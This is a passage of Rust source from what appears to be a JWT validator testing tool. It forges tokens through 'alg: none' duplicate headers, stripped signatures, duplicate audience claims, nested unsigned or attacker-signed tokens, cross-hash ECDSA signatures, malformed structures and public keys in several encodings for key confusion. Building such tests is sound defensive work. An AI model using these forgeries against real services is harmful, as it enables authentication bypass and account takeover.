            Attack::DuplicateAlgNone => {
                let mut header = victim.header.clone();
                header.push_duplicate("alg", "none");
                tamper_all(
                    &valid(),
                    &[Tamper::ReplaceHeader(header), Tamper::StripSignature],
                )
            }
            Attack::DuplicateAud { other } => {
                spec.clone().duplicate_claim("aud", *other).mint(signer()?)
            }
            Attack::Malformed(structure) => malformed(&valid, *structure),
            Attack::NestedAttackerOuter => {
                let outer = json!({"alg": attacker.alg().name(), "cty": "JWT"});
                jws::sign_raw(outer.to_string().as_bytes(), valid().as_bytes(), attacker)
            }
            Attack::NestedUnsignedInner => {
                let key = signer()?;
                let inner = spec.clone().alg("none").unsigned(key);
                let mut outer = json!({"alg": key.alg().name(), "cty": "JWT"});
                if let Some(kid) = key.kid() {
                    outer["kid"] = json!(kid);
                }
                jws::sign_raw(outer.to_string().as_bytes(), inner.as_bytes(), key)
            }
        })
    }
}

/// The reason an attack gives when it must be signed by the AS key and only a token the AS
/// issued is at hand ([`Attack::derive`]).
pub const NEEDS_SIGNING_KEY: &str = "needs the authorization server's signing key";

/// The reason an attack on the AS public key gives when no published key was attached
/// ([`IssuedToken::with_public_key`]).
pub const NEEDS_PUBLISHED_KEY: &str = "needs the authorization server's published key";

/// What the per-variant forgers know of the victim: the valid token `V`, how it was signed,
/// and, only when `V` was minted here, the private key and the spec behind it.
struct Victim<'a> {
    /// `V`: minted afresh on each call (ECDSA and PSS signatures differ), or the issued text.
    valid: Box<dyn Fn() -> String + 'a>,
    /// `V`'s header as signed, member order kept.
    header: JsonObject,
    /// `V` as a spec, for HMAC and attacker re-signing: unless set explicitly, `alg` and
    /// `kid` come from the re-signing key.
    spec: Cow<'a, TokenSpec>,
    /// `None` for an `alg` this crate does not implement.
    alg: Option<Algorithm>,
    kid: Option<&'a str>,
    public_jwk: Option<Cow<'a, Jwk>>,
    signer: Option<&'a SigningKey>,
}

impl<'a> Victim<'a> {
    fn minted(key: &'a SigningKey, spec: &'a TokenSpec) -> Self {
        Self {
            valid: Box::new(move || spec.mint(key)),
            header: spec.final_header(key),
            spec: Cow::Borrowed(spec),
            alg: Some(key.alg()),
            kid: key.kid(),
            public_jwk: Some(Cow::Owned(key.public_jwk().to_public())),
            signer: Some(key),
        }
    }

    /// The victim key's family, from `alg` or else from the published key.
    fn family(&self) -> Option<KeyFamily> {
        self.alg.map(Algorithm::key_family).or_else(|| {
            let jwk = self.public_jwk.as_deref()?;
            match &jwk.key {
                JwkKey::Ec { .. } => jwk.ec_curve().map(KeyFamily::Ec),
                JwkKey::Rsa { .. } => Some(KeyFamily::Rsa),
                JwkKey::Okp { crv, .. } => (crv == "Ed25519").then_some(KeyFamily::Ed25519),
                JwkKey::Oct { .. } => Some(KeyFamily::Symmetric),
            }
        })
    }
}

/// ECDSA over the digest of the hash `alg` does not name: SHA-256 on P-384, SHA-384 on
/// P-256 (bits2int keeps its leftmost 256 bits), low-S like every signature we make.
fn ecdsa_over_other_hash(key: &SigningKey, curve: EcCurve, message: &[u8]) -> Option<Vec<u8>> {
    use aws_lc_rs::digest;
    use aws_lc_rs::signature::{
        ECDSA_P256_SHA256_FIXED_SIGNING, ECDSA_P384_SHA384_FIXED_SIGNING, EcdsaKeyPair,
    };
    let (signing, own_hash, other_hash) = match curve {
        EcCurve::P256 => (
            &ECDSA_P256_SHA256_FIXED_SIGNING,
            &digest::SHA256,
            &digest::SHA384,
        ),
        EcCurve::P384 => (
            &ECDSA_P384_SHA384_FIXED_SIGNING,
            &digest::SHA384,
            &digest::SHA256,
        ),
        EcCurve::P521 => return None,
    };
    let pkcs8 = pem::parse(key.to_pkcs8_pem()?).ok()?.into_contents();
    let pair = EcdsaKeyPair::from_pkcs8(signing, &pkcs8).ok()?;
    let other = digest::digest(other_hash, message);
    let other = other.as_ref();
    // The integer ECDSA signs is the other digest's leftmost bits, in the width of the curve's
    // own hash: truncated when longer, zero-padded on the left when shorter.
    let width = own_hash.output_len();
    let value = if other.len() >= width {
        other[..width].to_vec()
    } else {
        [vec![0; width - other.len()], other.to_vec()].concat()
    };
    let prehashed = digest::Digest::import_less_safe(&value, own_hash).ok()?;
    let sig = pair.sign_digest(&prehashed).ok()?;
    Some(ecdsa::normalize_low_s(curve, sig.as_ref().to_vec()))
}

/// Structural defects of a valid token (`valid` mints a fresh one on each call).
fn malformed(valid: &dyn Fn() -> String, structure: Structure) -> String {
    let step = match structure {
        Structure::Padding => Tamper::PadSegment(Segment::Payload),
        Structure::StandardAlphabet => {
            // Only a segment holding `-` or `_` can change alphabet with its bytes unchanged.
            // Signatures (and `jti`) are random, so a few fresh mints find one; a token with
            // none falls back to `Tamper::StandardAlphabet`'s forced `+`.
            let segments = [Segment::Signature, Segment::Payload, Segment::Header];
            let mut token = valid();
            for _ in 0..32 {
                if token.contains(['-', '_']) {
                    break;
                }
                token = valid();
            }
            let parts: Vec<&str> = token.split('.').collect();
            let segment = segments
                .into_iter()
                .find(|&s| {
                    parts
                        .get(tamper::segment_index(s))
                        .is_some_and(|p| p.contains(['-', '_']))
                })
                .unwrap_or(Segment::Signature);
            return tamper(&token, &Tamper::StandardAlphabet(segment));
        }
        Structure::LineBreak => Tamper::LineBreak,
        Structure::TwoSegments => Tamper::TwoSegments,
        Structure::FourSegments => Tamper::FourSegments,
        Structure::CutInHalf => Tamper::CutInHalf,
        Structure::EmptyMiddleSegment => Tamper::EmptyMiddleSegment,
        Structure::JwsJsonSerialization => Tamper::AsJwsJson,
        Structure::JweShaped => {
            let header = crate::b64::encode(r#"{"alg":"RSA-OAEP-256","enc":"A256GCM"}"#);
            let part = |n: usize| crate::random_b64url(n);
            return format!(
                "{header}.{}.{}.{}.{}",
                part(256),
                part(12),
                part(64),
                part(16)
            );
        }
        Structure::Random => return crate::random_b64url(32),
    };
    tamper(&valid(), &step)
}

/// The public key of `key` in the given byte form (`None` where the form does not exist).
pub fn public_key_bytes(key: &SigningKey, form: PublicKeyForm) -> Option<Vec<u8>> {
    public_jwk_bytes(&key.public_jwk().to_public(), form)
}

/// A public JWK in the given byte form (`None` where the form does not exist, and for keys
/// without an SPKI form such as `oct`). [`PublicKeyForm::JwkJson`] is the JWK's own compact
/// JSON, every member it carries included, as a JWKS publishes it.
pub fn public_jwk_bytes(jwk: &Jwk, form: PublicKeyForm) -> Option<Vec<u8>> {
    let spki = cert::spki_der(jwk)?;
    match form {
        PublicKeyForm::SpkiPem => Some(cert::pem_lf("PUBLIC KEY", spki).into_bytes()),
        PublicKeyForm::SpkiPemNoTrailingNewline => Some(
            cert::pem_lf("PUBLIC KEY", spki)
                .trim_end()
                .as_bytes()
                .to_vec(),
        ),
        PublicKeyForm::Pkcs1Pem => {
            if !matches!(jwk.key, JwkKey::Rsa { .. }) {
                return None;
            }
            Some(cert::pem_lf("RSA PUBLIC KEY", spki_subject_public_key(&spki)?).into_bytes())
        }
        PublicKeyForm::SpkiDer => Some(spki),
        PublicKeyForm::JwkJson => Some(jwk.to_json().to_string().into_bytes()),
        PublicKeyForm::Raw => match &jwk.key {
            JwkKey::Rsa { n, .. } => Some(n.clone()),
            JwkKey::Ec { x, y, .. } => Some([&[0x04][..], x, y].concat()),
            JwkKey::Okp { x, .. } => Some(x.clone()),
            JwkKey::Oct { .. } => None,
        },
    }
}

/// The BIT STRING contents of a SubjectPublicKeyInfo (for RSA: the PKCS#1 RSAPublicKey).
fn spki_subject_public_key(spki: &[u8]) -> Option<Vec<u8>> {
    let (body, _) = der::take(spki, 0x30)?;
    let (_, rest) = der::take(body, 0x30)?;
    let (bits, _) = der::take(rest, 0x03)?;
    let (&unused, key) = bits.split_first()?;
    (unused == 0).then(|| key.to_vec())
}

#[cfg(test)]
mod tests;
